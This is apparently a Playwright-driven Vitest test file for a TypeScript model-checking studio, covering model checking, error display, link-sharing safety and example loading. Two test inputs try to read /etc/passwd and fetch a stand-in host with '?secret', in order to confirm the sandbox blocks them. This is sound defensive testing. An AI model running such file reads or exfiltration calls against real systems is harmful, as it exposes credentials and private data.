// Models in TypeScript in the studio, in a real browser: stripped, run in a worker without eval, and never because a link says so.
import { describe, expect, it } from 'vitest';
import { chromium, NO_CHROMIUM } from '../browser/chromium.ts';
import { serveStudio, type, useStudio, visit } from './studio.ts';

const MODEL = `import { defineModel } from 'tegata';
interface Counter { readonly n: number }
export default defineModel<Counter>({
  name: 'counter',
  initial: { n: 0 },
  next: ({ n }: Counter) => [{ n: (n + 1) % 4 }],
  propositions: { three: ({ n }) => n === 3, five: ({ n }) => n === 5 },
});
`;

describe.skipIf(chromium === undefined)(`models in code in the studio${NO_CHROMIUM}`, () => {
  const shared = useStudio();

  it('are written, walked through, drawn and checked', async () => {
    const { page, problems, close } = await visit(shared.browser, shared.studio.address);
    await page.getByRole('tab', { name: 'Model & check' }).click();
    await page.getByLabel('Format').selectOption('ts');
    await type(page, 'Model', MODEL);
    await page.getByRole('button', { name: 'Run this code' }).click();
    await page.getByTestId('summary').waitFor();
    await type(page, 'Property', 'GF three');
    await page.getByRole('button', { name: 'Check', exact: true }).click();
    await page.locator('[data-verdict=holds]').waitFor();
    await type(page, 'Property', 'F five');
    await page.getByRole('button', { name: 'Check', exact: true }).click();
    await page.locator('[data-verdict=violated]').waitFor();
    const graph = page.locator('section[aria-label="State graph"]');
    await graph.getByRole('button', { name: 'draw' }).click();
    await graph.locator('.canvas svg').waitFor();
    expect(await graph.locator('.sizes').textContent()).toBe('4 states, 4 steps');
    expect(problems).toEqual([]);
    await close();
  });

  it('have their mistakes shown at their place', async () => {
    const { page, problems, close } = await visit(shared.browser, shared.studio.address);
    await page.getByRole('tab', { name: 'Model & check' }).click();
    await page.getByLabel('Format').selectOption('ts');
    await page.getByRole('button', { name: 'Run this code' }).click();
    await type(page, 'Model', 'const a = 1;\nconst b: number = = 2;\n');
    await page.locator('.findings .place', { hasText: '2:19' }).waitFor();
    await type(page, 'Model', "import { readFileSync } from 'node:fs';\nexport default readFileSync('/etc/passwd');\n");
    await page.locator('.findings', { hasText: 'node:fs cannot be imported here' }).waitFor();
    await type(page, 'Model', "throw new Error('on purpose');\n");
    await page.locator('.findings', { hasText: 'on purpose' }).waitFor();
    await type(page, 'Model', 'export default 1;\n');
    await page.locator('.findings', { hasText: 'exports no model' }).waitFor();
    expect(problems).toEqual([]);
    await close();
  });

  it('do not run because a link was opened, and cannot ask another server', async () => {
    const first = await visit(shared.browser, shared.studio.address);
    await first.page.getByRole('tab', { name: 'Model & check' }).click();
    await first.page.getByLabel('Format').selectOption('ts');
    const spy = `import { defineModel } from 'tegata';
let failed = 'sent';
try { await fetch('https://example.com/?secret'); } catch { failed = 'refused'; }
export default defineModel({ name: failed, initial: { n: 0 }, next: () => [{ n: 0 }], propositions: { [failed]: () => true } });
`;
    await type(first.page, 'Model', spy);
    await type(first.page, 'Property', 'refused');
    // the link is complete when the address has come to rest
    await expect.poll(async () => (await first.page.evaluate<string>('location.hash')).length).toBeGreaterThan(200);
    const link = await first.page.evaluate<string>(
      'new Promise((done) => setTimeout(() => done(location.href), 1000))',
    );
    await first.close();
    const second = await visit(shared.browser, link);
    await second.page.getByTestId('held').waitFor();
    await second.page.getByRole('button', { name: 'Check', exact: true }).click();
    expect(await second.page.locator('[data-verdict]').count()).toBe(0);
    expect(await second.page.getByTestId('summary').count()).toBe(0);
    await second.page.getByRole('button', { name: 'Run this code' }).click();
    await second.page.getByTestId('summary').waitFor();
    await second.page.getByRole('button', { name: 'Check', exact: true }).click();
    await second.page.locator('[data-verdict=holds]').waitFor();
    // the browser says what it has refused, and nothing left for another server
    expect(
      second.problems.filter((problem) => !/Content Security Policy|Failed to load|Fetch API/.test(problem)),
    ).toEqual([]);
    expect(second.problems.some((problem) => problem.startsWith('request:'))).toBe(false);
    await second.close();
  });

  it('are opened by the command, and in the gallery', async () => {
    const served = await serveStudio('examples/mutex-turns/model.ts');
    const { page, problems, close } = await visit(shared.browser, served.address);
    await page.getByTestId('summary').waitFor();
    expect(await page.getByText('the model has nothing called').count()).toBe(0);
    await page.getByRole('tab', { name: 'Examples' }).click();
    await page.locator('[data-example=dining-philosophers]').getByRole('button').first().click();
    await page.getByTestId('summary').waitFor();
    await page.getByRole('button', { name: 'Check', exact: true }).click();
    await page.locator('[data-verdict=holds], [data-verdict=violated]').waitFor();
    expect(problems).toEqual([]);
    await close();
    await served.end();
  });
});
